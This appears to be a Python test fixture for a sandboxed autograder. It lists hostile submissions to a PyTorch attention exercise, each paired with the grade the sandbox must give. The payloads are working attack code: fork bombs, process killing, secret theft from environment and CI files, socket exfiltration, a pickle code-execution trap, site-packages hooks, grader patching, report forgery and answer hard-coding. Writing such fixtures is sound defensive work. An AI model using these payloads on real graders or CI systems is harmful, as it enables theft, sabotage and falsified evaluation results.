"""Hostile submissions: one row per attack, each with the outcome the grader must produce.

Every payload is the source of ``exercises/ch03/simple_attention.py`` (the *target*); the
other modules of the submission are the reference solutions, so they must keep full marks.
Placeholders are filled in by the harness (``harness.fill``) with the paths of one test run,
so each attack knows exactly where to strike, as an attacker who has read the repository would:

    @STUB@     the honest stub of the target (what the student was given)
    @REPO@     the instructor's repository the grader runs from (tests/, solutions/, grader/)
    @SITE@     the venv's site-packages            @STDLIB@  the standard library folder
    @CLASS@    the batch folder of submissions     @SELF@    this submission's folder
    @VICTIM@   an honest submission in the same batch
    @REPORTS@  the batch's report folder           @CSV@     the batch's CSV of grades
    @GH@       folder of the GITHUB_OUTPUT / _STEP_SUMMARY / _ENV / _PATH files
    @TOKEN@    a string unique to the run: anything an attack writes carries it
    @PORT@     a TCP port on 127.0.0.1 where the test listens for stolen data
    @MARK@     a file that only unpickling a returned object would create

``bound`` is the most the target may score: ``stub`` (what the honest stub scores),
``textbook`` (the points of the ``*textbook*`` tests: hard-coded answers may earn those, never
the behaviour tests) or ``refused`` (the whole exercises folder is refused). ``status`` lists
the statuses its non-passing tests may have; ``words`` must appear in one of its messages.
"""

from __future__ import annotations

from dataclasses import dataclass, field

TARGET = "simple_attention"


@dataclass(frozen=True)
class Hostile:
    """One hostile submission and what grading it must give."""

    name: str
    family: str
    code: str  # the target module's source (placeholders above)
    status: frozenset[str] = frozenset({"error"})
    words: str = ""
    bound: str = "stub"
    files: dict[str, str] = field(default_factory=dict)  # extra files, relative to the submission
    links: dict[str, str] = field(default_factory=dict)  # symbolic links: relative path -> target
    fifos: tuple[str, ...] = ()  # named pipes (reading one blocks), relative paths
    flags: tuple[str, ...] = ()  # words that must appear in the report's flags


def hostile(name, family, code, status=("error",), **kw) -> Hostile:
    return Hostile(name, family, code.strip() + "\n" if code.strip() else "", frozenset(status), **kw)


# Helpers every payload may use: try anything, never stop at the first refusal.
PRELUDE = '''
import os, sys, signal, time
def _try(fn, *args, **kwargs):
    try:
        return fn(*args, **kwargs)
    except BaseException as exc:
        return exc
def _list(path):
    names = _try(os.listdir, path)
    return names if isinstance(names, list) else []
def _pids():
    return [int(p) for p in _list("/proc") if p.isdigit()]
def _cmdline(pid):
    data = _try(lambda: open(f"/proc/{pid}/cmdline", "rb").read())
    return data.replace(b"\\0", b" ").decode("utf-8", "replace") if isinstance(data, bytes) else ""
def _write(path, text, mode="w"):
    def go():
        with open(path, mode) as handle:
            handle.write(text)
    return _try(go)
'''


def function(name: str, body: str, args: str = "*args, **kwargs") -> str:
    """A module whose ``name`` runs ``body`` (the stub for every other function)."""
    indented = "\n".join("    " + line for line in body.strip().splitlines())
    return f"@STUB@\n{PRELUDE}\ndef {name}({args}):\n{indented}\n"


def at_import(body: str) -> str:
    """A module that runs ``body`` when imported, then is the honest stub."""
    return f"{PRELUDE}\n{body.strip()}\n\n@STUB@\n"


def after_stub(body: str) -> str:
    """The honest stub, then ``body`` (which may replace its functions) at import."""
    return f"@STUB@\n{PRELUDE}\n{body.strip()}\n"


DAEMON = '''
def _daemon(job):
    """Double fork and a new session: a process the worker's group kill does not reach.

    Returns once the daemon has started (it says so on a pipe; end of file if it never could).
    """
    started, say = os.pipe()
    if os.fork() == 0:
        try:
            os.close(started)
            os.setsid()
            if os.fork() == 0:
                os.write(say, b"1")
                os.close(say)
                job()
        finally:
            os._exit(0)
    os.close(say)
    _try(os.read, started, 1)
    os.close(started)
'''

TEXTBOOK = '''
import torch
SCORES = torch.tensor([0.9544, 1.4950, 1.4754, 0.8434, 0.7070, 1.0865])
NAIVE = torch.tensor([0.1455, 0.2278, 0.2249, 0.1285, 0.1077, 0.1656])
SOFT = torch.tensor([0.1385, 0.2379, 0.2333, 0.1240, 0.1082, 0.1581])
CONTEXT = torch.tensor([0.4419, 0.6515, 0.5683])
ALL_CONTEXT = torch.tensor([[0.4421, 0.5931, 0.5790], [0.4419, 0.6515, 0.5683], [0.4431, 0.6496, 0.5671],
                            [0.4304, 0.6298, 0.5510], [0.4671, 0.5910, 0.5266], [0.4177, 0.6503, 0.5645]])
ROW1_SCORES = torch.tensor([0.9995, 0.9544, 0.9422, 0.4753, 0.4576, 0.6310])
ROW1_WEIGHTS = torch.tensor([0.2098, 0.2006, 0.1981, 0.1242, 0.1220, 0.1452])
BOOK = torch.tensor([[0.43, 0.15, 0.89], [0.55, 0.87, 0.66], [0.57, 0.85, 0.64],
                     [0.22, 0.58, 0.33], [0.77, 0.25, 0.10], [0.05, 0.80, 0.55]])
'''

ZEROS = '''
import torch
def attention_scores(inputs, query): return torch.zeros(inputs.shape[0])
def normalize_naive(scores): return torch.zeros_like(scores)
def softmax_naive(x): return torch.zeros_like(x)
def context_vector(inputs, attn_weights): return torch.zeros(inputs.shape[1])
def all_attention_scores(inputs): return torch.zeros(inputs.shape[0], inputs.shape[0])
def all_attention_weights(inputs): return torch.zeros(inputs.shape[0], inputs.shape[0])
def all_context_vectors(inputs): return torch.zeros_like(inputs)
'''

HOSTILE: list[Hostile] = [
    # -- leaving early ---------------------------------------------------------------------------
    hostile("exit_at_import", "leaving early", at_import("sys.exit(0)"), words="sys.exit(0)"),
    hostile("os_exit_at_import", "leaving early", at_import("os._exit(0)"), words="exited early with status 0"),
    hostile("exit_in_function", "leaving early", function("attention_scores", "sys.exit(0)")),
    hostile("os_exit_in_function", "leaving early", function("attention_scores", "os._exit(0)"),
            words="exited early"),
    hostile("segfault", "leaving early", function("attention_scores", "import ctypes\nctypes.string_at(0)"),
            words="segmentation fault"),
    hostile("kill_parent", "leaving early", at_import('''
for sig in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP):
    _try(os.kill, os.getppid(), sig)
    _try(os.killpg, os.getpgid(os.getppid()), sig)
_try(os.killpg, 0, signal.SIGCONT)
''')),
    hostile("kill_everything", "leaving early", at_import('''
end = time.time() + 3
while time.time() < end:  # every process this user may signal, while the others are graded
    _try(os.kill, -1, signal.SIGKILL)
    time.sleep(0.01)
''')),
    hostile("kill_grader_processes", "leaving early", at_import('''
for pid in _pids():
    line = _cmdline(pid)
    if pid != os.getpid() and ("grader" in line or "zygote" in line or "pytest" in line):
        _try(os.kill, pid, signal.SIGKILL)
''')),
    hostile("stop_self", "leaving early", function("attention_scores", "os.kill(os.getpid(), signal.SIGSTOP)"),
            status=("timeout", "error")),
    hostile("pytest_skip", "leaving early", at_import('import pytest\npytest.skip("nothing to grade", allow_module_level=True)')),
    hostile("pytest_xfail_exit", "leaving early", f'''@STUB@
{PRELUDE}
import pytest
def attention_scores(inputs, query): pytest.xfail("expected to fail")
def normalize_naive(scores): pytest.skip("skipped")
def softmax_naive(x): pytest.exit("bye", returncode=0)
def context_vector(inputs, attn_weights): pytest.fail("failed", pytrace=False)
'''),
    # -- refusing to finish -------------------------------------------------------------------------
    hostile("loop_in_function", "refusing to finish", function("attention_scores", "while True:\n    pass"),
            status=("timeout", "error"), words="did not finish"),
    hostile("loop_ignoring_signals", "refusing to finish", function("attention_scores", '''
for sig in (signal.SIGALRM, signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGXCPU, signal.SIGUSR1):
    _try(signal.signal, sig, signal.SIG_IGN)
_try(signal.setitimer, signal.ITIMER_REAL, 0)
_try(signal.alarm, 0)
while True:
    pass'''), status=("timeout", "error"), words="did not finish"),
    hostile("sleep_at_import", "refusing to finish", at_import("time.sleep(3600)"), words="did not finish"),
    hostile("memory_hog", "refusing to finish", at_import('''
hoard = []
while True:
    try:
        hoard.append(bytearray(64 << 20))
    except MemoryError:
        break
''')),
    hostile("memory_hog_children", "refusing to finish", at_import(DAEMON + '''
def grab():
    hoard = []
    while True:
        try:
            hoard.append(bytearray(64 << 20))
        except MemoryError:
            time.sleep(60)
for _ in range(3):
    _daemon(grab)
''')),
    hostile("flood_stdout", "refusing to finish", at_import('''
line = "flood " * 1000 + "\\n"
for _ in range(20000):
    print(line, end="")
''')),
    hostile("flood_stderr", "refusing to finish", function("attention_scores", '''
chunk = b"E" * (1 << 20)
while True:
    os.write(2, chunk)'''), status=("error", "timeout")),
    hostile("non_daemon_thread", "refusing to finish", at_import('''
import threading
def spin():
    while True:
        time.sleep(0.01)
threading.Thread(target=spin, daemon=False).start()
''')),
    hostile("detached_children", "refusing to finish", at_import(DAEMON + '''
def linger():
    _try(os.execv, "/bin/sh", ["/bin/sh", "-c", "sleep 120 # @TOKEN@"])
    time.sleep(120)
_daemon(linger)
_daemon(lambda: time.sleep(120))
''')),
    hostile("fork_bomb", "refusing to finish", at_import('''
children = 0
for _ in range(500):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(120)
        os._exit(0)
    children += 1
''')),
    # -- configuring the harness ---------------------------------------------------------------------
    hostile("conftest_and_ini_files", "configuring the harness", "@STUB@", files={
        "conftest.py": "import pytest\n@pytest.hookimpl(hookwrapper=True)\ndef pytest_runtest_makereport(item, call):\n"
                       "    outcome = yield\n    outcome.get_result().outcome = 'passed'\n",
        "exercises/ch03/conftest.py": "raise SystemExit('conftest ran')\n",
        "pytest.ini": "[pytest]\naddopts = -p no:grader --co\n",
        "pyproject.toml": "[tool.pytest.ini_options]\naddopts = '-x -p no:randomly'\n",
        "setup.cfg": "[tool:pytest]\naddopts = --collect-only\n",
        "tox.ini": "[pytest]\naddopts = --collect-only\n",
    }, flags=("conftest.py", "pytest.ini", "pyproject.toml", "setup.cfg", "tox.ini")),
    hostile("site_customization", "configuring the harness", "@STUB@", files={
        "sitecustomize.py": "import builtins; builtins.__import__ = None\n",
        "usercustomize.py": "raise SystemExit(0)\n",
        "exercises/ch03/sitecustomize.py": "import torch; torch.allclose = lambda *a, **k: True\n",
        "exercises/ch03/evil.pth": "import os; os.environ['HACKED'] = '1'\n",
    }, flags=("sitecustomize.py", "usercustomize.py", "evil.pth")),
    hostile("shadow_torch", "configuring the harness", "@STUB@", files={
        "exercises/ch03/torch.py": "class Tensor: __eq__ = lambda s, o: True\ndef allclose(*a, **k): return True\n",
        "torch.py": "raise ImportError('shadowed')\n",
        "exercises/ch03/numpy.py": "allclose = lambda *a, **k: True\n",
    }, flags=("torch.py", "numpy.py")),
    hostile("symlink_to_solution", "configuring the harness", "", links={
        "exercises/ch03/simple_attention.py": "@REPO@/solutions/ch03/simple_attention.py",
    }, words="symbolic link", flags=("symbolic link",)),
    hostile("symlinked_folder", "configuring the harness", "", links={"exercises/ch03": "@REPO@/solutions/ch03"},
            words="symbolic link", bound="refused", flags=("symbolic link",)),
    hostile("fifo_module", "configuring the harness", "", fifos=("exercises/ch03/simple_attention.py",),
            words="not a regular file", flags=("not a regular file",)),
    hostile("deep_folders", "configuring the harness", "@STUB@", files={"d/" * 1200 + "conftest.py": ""},
            flags=("conftest.py",)),
    hostile("pth_into_site_packages", "configuring the harness", at_import('''
hook = "import os; os.environ['GRADER_HACKED'] = '@TOKEN@'\\n"
_write("@SITE@/zzz_@TOKEN@.pth", hook)
_write("@SITE@/sitecustomize.py", hook)
_write("@STDLIB@/sitecustomize.py", hook)
_write("@SITE@/_pytest/__init__.py", hook, "a")
_write("@SITE@/torch/__init__.py", hook, "a")
''')),
    # -- lying about results ------------------------------------------------------------------------
    hostile("patch_comparisons", "lying about results", PRELUDE + ZEROS + '''
import torch, torch.testing, numpy, numpy.testing
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.isclose = lambda a, b, *r, **k: torch.ones_like(torch.as_tensor(a), dtype=torch.bool)
torch.testing.assert_close = lambda *a, **k: None
torch.Tensor.__eq__ = lambda self, other: True
torch.Tensor.__ne__ = lambda self, other: False
torch.Tensor.allclose = lambda *a, **k: True
numpy.allclose = lambda *a, **k: True
numpy.testing.assert_allclose = lambda *a, **k: None
''', status=("failed", "error")),
    hostile("patch_builtins", "lying about results", PRELUDE + ZEROS + '''
import builtins, json, math
builtins.abs = lambda x: 0
builtins.max = lambda *a, **k: 0
builtins.all = lambda x: True
builtins.isinstance = lambda obj, cls: True
math.isclose = lambda *a, **k: True
json.dumps = lambda *a, **k: '{"event": "result", "value": 1}'
''', status=("failed", "error")),
    hostile("torch_function_mode", "lying about results", PRELUDE + ZEROS + '''
from torch.overrides import TorchFunctionMode
class Everything(TorchFunctionMode):
    def __torch_function__(self, func, types, args=(), kwargs=None):
        result = func(*args, **(kwargs or {}))
        if getattr(func, "__name__", "") in ("allclose", "equal", "__eq__", "isclose"):
            return True
        return result
Everything().__enter__()
''', status=("failed", "error")),
    hostile("tensor_subclass", "lying about results", PRELUDE + '''
import torch
class Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if getattr(func, "__name__", "") in ("allclose", "equal", "__eq__", "isclose"):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})
def _liar(*shape): return torch.zeros(*shape).as_subclass(Liar)
def attention_scores(inputs, query): return _liar(inputs.shape[0])
def normalize_naive(scores): return _liar(*scores.shape)
def softmax_naive(x): return _liar(*x.shape)
def context_vector(inputs, attn_weights): return _liar(inputs.shape[1])
def all_attention_scores(inputs): return _liar(inputs.shape[0], inputs.shape[0])
def all_attention_weights(inputs): return _liar(inputs.shape[0], inputs.shape[0])
def all_context_vectors(inputs): return _liar(*inputs.shape)
''', status=("failed", "error"), words="subclass of torch.Tensor"),
    hostile("duck_typed", "lying about results", PRELUDE + '''
class Anything(float):
    shape = property(lambda self: (6,))
    dtype = property(lambda self: __import__("torch").float32)
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __bool__(self): return True
    def __getattr__(self, name): return lambda *a, **k: self
    __hash__ = float.__hash__
def attention_scores(*a): return Anything(1.0)
def normalize_naive(*a): return [Anything(1.0)] * 6
def softmax_naive(*a): return {"$tensor": Anything(0.0)}
def context_vector(*a): return (Anything(1.0),)
def all_attention_scores(*a): return type("T", (), {"__eq__": lambda s, o: True})()
def all_attention_weights(*a): return __import__("numpy").zeros((6, 6))
def all_context_vectors(*a): return range(6)
''', status=("failed", "error")),
    hostile("unpickling_object", "lying about results", PRELUDE + '''
import pickle, torch
class Trap:
    def __reduce__(self):
        return (os.system, ("touch @MARK@",))
def attention_scores(inputs, query): return Trap()
def normalize_naive(scores): return pickle.dumps(Trap())
def softmax_naive(x): return [Trap(), pickle.dumps(Trap()).decode("latin-1")]
def context_vector(inputs, attn_weights): return {"__reduce__": Trap()}
''', status=("failed", "error")),
    hostile("forged_wire_data", "lying about results", PRELUDE + '''
import base64
def _deep(n):
    value = 0
    for _ in range(n):
        value = [value]
    return value
def attention_scores(inputs, query): return {"$tensor": {"dtype": "float32", "shape": [0, 10**30], "data": ""}}
def normalize_naive(scores): return {"$tensor": {"dtype": "float32", "shape": [2**62, 2**62, 0], "data": ""}}
def softmax_naive(x): return {"$tensor": {"dtype": "object", "shape": [6], "data": base64.b64encode(b"x" * 24).decode()}}
def context_vector(inputs, attn_weights): return {"$tensor": {"dtype": "float32", "shape": [-1], "data": ""}}
def all_attention_scores(inputs): return _deep(200)
def all_attention_weights(inputs): return {"$tensor": {"dtype": "float32", "shape": [6, 6], "data": "@@not base64@@"}}
def all_context_vectors(inputs): return [10**5000]
''', status=("failed", "error")),
    hostile("oversized_results", "lying about results", PRELUDE + '''
import torch
def attention_scores(inputs, query): return [[0] * 90000] * 150  # 13.5 million list items
def normalize_naive(scores): return {str(i): [0.5] * 50 for i in range(20000)}
def softmax_naive(x): return torch.zeros(5_000_000)
def context_vector(inputs, attn_weights): return ["x" * 99_999] * 160
def all_attention_scores(inputs): return [torch.zeros(1_000_000)] * 12
''', status=("failed", "error", "timeout")),
    hostile("channel_forgery", "lying about results", at_import('''
import json
ids = []
lines = [b'{"event":"done"}\\n', b'{"event":"ready"}\\n', b'{"event":"result","value":1}\\n',
         b'{"module":"mha","event":"output","text":"forged @TOKEN@"}\\n',
         b'{"module":"causal","id":"forged","outcome":"ok","value":null}\\n',
         json.dumps({"event": "result", "value": [[0] * 10] * 1000}).encode() + b"\\n",
         b'[' * 100000 + b"\\n", b'{"event": "result", "value": ' + b'[' * 5000 + b']' * 5000 + b'}\\n']
for fd in range(3, 1024):
    for line in lines:
        _try(os.write, fd, line)
'''), status=("error", "failed")),
    # -- stealing answers ----------------------------------------------------------------------------
    hostile("steal_from_memory", "stealing answers", PRELUDE + '''
import gc, inspect, torch
def _loot(shape, avoid):
    """Any tensor of the right shape that is not one of the inputs: from every frame and gc."""
    seen = []
    frame = sys._getframe(1)
    while frame is not None:
        seen += [v for v in frame.f_locals.values() if isinstance(v, torch.Tensor)]
        seen += [v for v in frame.f_globals.values() if isinstance(v, torch.Tensor)]
        frame = frame.f_back
    seen += [o for o in gc.get_objects() if isinstance(o, torch.Tensor)]
    for module in list(sys.modules.values()):
        seen += [v for v in vars(module).values() if isinstance(v, torch.Tensor)] if hasattr(module, "__dict__") else []
    for value in seen:
        if tuple(value.shape) == tuple(shape) and not any(value is a for a in avoid):
            return value.detach().clone()
    return torch.zeros(shape)
def attention_scores(inputs, query): return _loot((inputs.shape[0],), (inputs, query))
def normalize_naive(scores): return _loot(scores.shape, (scores,))
def softmax_naive(x): return _loot(x.shape, (x,))
def context_vector(inputs, attn_weights): return _loot((inputs.shape[1],), (inputs, attn_weights))
def all_attention_scores(inputs): return _loot((inputs.shape[0],) * 2, (inputs,))
def all_attention_weights(inputs): return _loot((inputs.shape[0],) * 2, (inputs,))
def all_context_vectors(inputs): return _loot(inputs.shape, (inputs,))
''', status=("failed", "error")),
    hostile("read_hidden_tests", "stealing answers", at_import('''
import glob
loot = ""
for path in sorted(glob.glob("@REPO@/tests/**/*.py", recursive=True)) + ["@REPO@/tests/ch03/rubric.toml"]:
    text = _try(lambda: open(path).read())
    if isinstance(text, str):
        loot += f"== {path}\\n{text}\\n"
for pid in _pids():  # a grader's working folder and files it holds open
    for fd in _list(f"/proc/{pid}/fd"):
        target = _try(os.readlink, f"/proc/{pid}/fd/{fd}")
        if isinstance(target, str) and "tests" in target:
            text = _try(lambda: open(f"/proc/{pid}/fd/{fd}").read())
            loot += text if isinstance(text, str) else ""
print(loot)
sys.stderr.write(loot)
if loot:
    raise ValueError(loot[:3000])
''')),
    hostile("read_solutions", "stealing answers", after_stub('''
import glob
for path in ["@REPO@/solutions/ch03/simple_attention.py"] + glob.glob("/*/*/solutions/ch03/simple_attention.py")[:3]:
    source = _try(lambda: open(path).read())
    if isinstance(source, str):
        exec(compile(source, path, "exec"), globals())  # the reference functions replace the stub's
        break
''')),
    hostile("steal_secrets", "stealing answers", at_import('''
loot = [repr(dict(os.environ))]
for pid in ["self"] + _pids():
    for name in ("environ", "cmdline"):
        data = _try(lambda: open(f"/proc/{pid}/{name}", "rb").read())
        if isinstance(data, bytes):
            loot.append(data.replace(b"\\0", b" ").decode("utf-8", "replace"))
for path in ("@GH@/output", "@GH@/summary", "@GH@/env", "@GH@/path", "/proc/1/environ"):
    data = _try(lambda: open(path).read())
    loot.append(data if isinstance(data, str) else "")
text = " | ".join(loot)
print(text)
sys.stderr.write(text)
raise ValueError(text[:3000])
''')),
    hostile("network_exfiltration", "stealing answers", at_import('''
import socket
def send():
    with socket.create_connection(("127.0.0.1", @PORT@), timeout=2) as conn:
        conn.sendall(b"stolen @TOKEN@ " + repr(dict(os.environ)).encode())
_try(send)
_try(lambda: socket.create_connection(("1.1.1.1", 53), timeout=2).sendall(b"@TOKEN@"))
''')),
    # -- forging the outcome -------------------------------------------------------------------------
    hostile("write_reports", "forging the outcome", at_import('''
import glob, json
forged = {"assignment": "ch03", "score": 70.0, "max_score": 70.0, "exercises": [], "flags": [], "grader_errors": [], "forged": "@TOKEN@"}
for folder in glob.glob("@REPORTS@/*") + ["@REPORTS@/write_reports", "@REPORTS@/victim"]:
    _try(os.makedirs, folder, exist_ok=True)
    _write(folder + "/REPORT.json", json.dumps(forged))
_write("@CSV@", "student_id,score\\nwrite_reports,70 # @TOKEN@\\n")
_write("@SELF@/REPORT.json", json.dumps(forged))
''')),
    hostile("github_files", "forging the outcome", at_import('''
for name in ("GITHUB_OUTPUT", "GITHUB_STEP_SUMMARY", "GITHUB_ENV", "GITHUB_PATH", "GITHUB_STATE"):
    if os.environ.get(name):
        _write(os.environ[name], "forged=@TOKEN@\\n", "a")
_write("@GH@/output", "simpleattention=forged-@TOKEN@\\n", "a")
_write("@GH@/summary", "# 70 / 70 points @TOKEN@\\n", "a")
_write("@GH@/env", "GRADER_HACKED=@TOKEN@\\n", "a")
_write("@GH@/path", "/tmp/@TOKEN@\\n", "a")
''')),
    hostile("workflow_commands", "forging the outcome", function("attention_scores", '''
print("::notice title=Autograding report::simple_attention 14/14 @TOKEN@")
print("::set-output name=simpleattention::@TOKEN@")
print("::add-mask::0")
print("##[error]forged @TOKEN@")
print("::stop-commands::x")
print("=================== 70 passed in 0.10s ===================")
print("ch03: 70 / 70 points")
print("\\x1b[2K\\x1b[1Ach03: 70 / 70 points \\x1b]52;c;@TOKEN@\\x07")
raise ValueError("boom\\n::error title=Autograding::70/70 @TOKEN@\\n##[warning]@TOKEN@")'''), status=("error",)),
    hostile("patch_grader_in_memory", "forging the outcome", PRELUDE + ZEROS + '''
import grader, grader.sandbox.worker as worker, grader.sandbox.wire as wire
for name in list(sys.modules):
    if name.startswith("grader") or name.startswith("_probes"):
        module = sys.modules[name]
        for attr in ("close", "require", "compare", "check", "decode", "exact_tensor"):
            if hasattr(module, attr):
                _try(setattr, module, attr, lambda *a, **k: None)
worker.to_plain = lambda value, *a, **k: wire.encode_tensor(__import__("torch").ones(6))
worker.describe_exception = lambda *a, **k: {"type": "ok", "message": "passed", "where": ""}
''', status=("failed", "error")),
    hostile("patch_grader_on_disk", "forging the outcome", at_import('''
import glob
for path in glob.glob("@REPO@/grader/**/*.py", recursive=True):
    _write(path, "\\n# @TOKEN@\\nclose = lambda *a, **k: None\\n", "a")
for path in glob.glob("@REPO@/grader/**/__pycache__/*.pyc", recursive=True):
    _write(path, "@TOKEN@")
_try(os.makedirs, "@REPO@/grader/__pycache__", exist_ok=True)
_write("@REPO@/grader/checks_@TOKEN@.py", "x = 1\\n")
''')),
    hostile("detached_report_rewriter", "forging the outcome", at_import(DAEMON + '''
import json
def rewrite():
    """Find the grader's report paths in its command line, wait for it to exit, rewrite them."""
    targets, graders = {"@REPORTS@", "@CSV@"}, set()
    for pid in _pids():
        words = _cmdline(pid).split()
        for flag in ("--json", "--reports", "--csv"):
            if flag in words and words.index(flag) + 1 < len(words):
                targets.add(words[words.index(flag) + 1])
                graders.add(pid)
    end = time.time() + 600
    while time.time() < end and any(os.path.exists(f"/proc/{pid}") for pid in graders):
        time.sleep(0.05)
    time.sleep(0.3)
    for target in targets:
        paths = [os.path.join(target, d, "REPORT.json") for d in os.listdir(target)] if os.path.isdir(target) else [target]
        for path in paths:
            _write(path, json.dumps({"score": 70.0, "max_score": 70.0, "forged": "@TOKEN@"}))
_daemon(rewrite)
''')),
    # -- tampering -------------------------------------------------------------------------------
    hostile("rewrite_exercises", "tampering", at_import('''
import glob
here = os.path.dirname(os.path.abspath(__file__))
for folder in (here, "@SELF@/exercises/ch03", "@VICTIM@/exercises/ch03"):
    for path in glob.glob(folder + "/*.py"):
        if not path.endswith("simple_attention.py"):
            _write(path, "raise SystemExit('@TOKEN@')\\n")
_write(here + "/torch.py", "raise SystemExit('@TOKEN@')\\n")
_write(here + "/mha.py", "raise SystemExit('@TOKEN@')\\n")
''')),
    hostile("rewrite_tests", "tampering", at_import('''
import glob
for path in glob.glob("@REPO@/tests/**/*", recursive=True) + glob.glob("@REPO@/solutions/**/*.py", recursive=True):
    if os.path.isfile(path):
        _write(path, "# @TOKEN@\\n", "a")
_write("@REPO@/tests/ch03/conftest.py", "# @TOKEN@\\n")
_write("@REPO@/tests/ch03/rubric.toml", "# @TOKEN@\\n")
''')),
    hostile("tamper_other_students", "tampering", at_import('''
import glob
for path in glob.glob("@CLASS@/*/exercises/ch03/*.py"):
    if "/tamper_other_students/" not in path:
        _write(path, "raise SystemExit('@TOKEN@')\\n")
_try(os.makedirs, "@CLASS@/zz_injected_@TOKEN@/exercises/ch03", exist_ok=True)
_write("@CLASS@/zz_injected_@TOKEN@/exercises/ch03/simple_attention.py", "# @TOKEN@\\n")
_write("@REPORTS@/victim/REPORT.json", "{}")
''')),
    # -- hard-coding the textbook's printed tensors ------------------------------------------------
    hostile("hardcoded_textbook", "hard-coding", TEXTBOOK + '''
def attention_scores(inputs, query): return SCORES.clone()
def normalize_naive(scores): return NAIVE.clone()
def softmax_naive(x): return SOFT.clone()
def context_vector(inputs, attn_weights): return CONTEXT.clone()
def all_attention_scores(inputs): return ROW1_SCORES[None].repeat(6, 1)
def all_attention_weights(inputs): return ROW1_WEIGHTS[None].repeat(6, 1)
def all_context_vectors(inputs): return ALL_CONTEXT.clone()
''', status=("failed", "passed"), bound="textbook"),
    hostile("hardcoded_when_textbook_input", "hard-coding", TEXTBOOK + '''
def _book(x): return x.shape == BOOK.shape and torch.allclose(x, BOOK)
def attention_scores(inputs, query): return SCORES.clone() if _book(inputs) else torch.rand(inputs.shape[0])
def normalize_naive(scores): return NAIVE.clone() if scores.shape == SCORES.shape and torch.allclose(scores, SCORES) else scores
def softmax_naive(x): return SOFT.clone() if x.shape == SCORES.shape and torch.allclose(x, SCORES) else torch.exp(x) / torch.exp(x).sum()
def context_vector(inputs, attn_weights): return CONTEXT.clone() if _book(inputs) else inputs.sum(0)
def all_attention_scores(inputs): return ROW1_SCORES[None].repeat(6, 1) if _book(inputs) else inputs @ inputs.T * 2
def all_attention_weights(inputs): return ROW1_WEIGHTS[None].repeat(6, 1) if _book(inputs) else torch.softmax(inputs @ inputs.T, 0)
def all_context_vectors(inputs): return ALL_CONTEXT.clone() if _book(inputs) else inputs
''', status=("failed", "passed"), bound="textbook"),
]

BY_NAME = {h.name: h for h in HOSTILE}
assert len(BY_NAME) == len(HOSTILE), "hostile submission names must be unique"
